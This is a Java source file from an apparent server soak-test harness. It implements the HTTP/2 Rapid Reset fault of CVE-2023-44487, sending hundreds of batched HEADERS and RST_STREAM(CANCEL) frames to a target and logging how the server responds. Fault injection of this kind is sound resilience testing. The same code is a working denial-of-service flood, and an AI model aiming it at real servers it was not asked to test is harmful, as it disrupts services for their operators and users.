package dev.petrel.bench.soak;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.concurrent.TimeUnit;

/**
 * {@link FaultKind#H2_RAPID_RESET}: requests opened and cancelled at once, hundreds of them, the
 * pattern of CVE-2023-44487. Each pair is a HEADERS of {@code GET /ping} (END_STREAM and
 * END_HEADERS) on a new odd stream id and an RST_STREAM (CANCEL) of it; the pairs go out in a few
 * big writes, so that the server reads many resets per read, as an attacker would send them.
 *
 * @param pairs how many HEADERS and RST_STREAM pairs
 * @param writes in how many writes they go out
 */
record H2RapidReset(int pairs, int writes) implements Fault {
    private static final long SEND_LIMIT_MILLIS = 5_000;
    private static final long LINGER_MILLIS = 3_000;

    @Override
    public void run(Listener target, FaultSockets sockets, Transcript transcript) throws IOException, InterruptedException {
        byte[] block = HpackFields.get("/ping", target.port());
        int perWrite = (pairs + writes - 1) / writes;
        long deadline = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(SEND_LIMIT_MILLIS);
        try (H2Session session = new H2Session(sockets, target)) {
            int sent = 0;
            int streamId = 1;
            try {
                session.write(H2Frames.opening());
                while (sent < pairs && !session.serverDone() && System.nanoTime() < deadline) {
                    ByteArrayOutputStream batch = new ByteArrayOutputStream();
                    for (int i = 0; i < perWrite && sent + i < pairs; i++, streamId += 2) {
                        H2Frames.write(batch, H2Frames.HEADERS, H2Frames.FLAG_END_STREAM | H2Frames.FLAG_END_HEADERS, streamId, block);
                        H2Frames.writeRstStream(batch, streamId, H2Frames.CANCEL);
                    }
                    session.write(batch.toByteArray());
                    sent = (streamId - 1) / 2;
                }
                transcript.note("preface, SETTINGS, " + sent + " of " + pairs + " HEADERS+RST_STREAM(CANCEL) pairs sent");
            } catch (IOException e) {
                // the server ended the connection under the flood: what it sent first is the point
                transcript.note("preface, SETTINGS, then the write of pairs " + sent + " on failed: " + Reply.describe(e));
            }
            transcript.note(session.finish(LINGER_MILLIS));
        }
    }
}
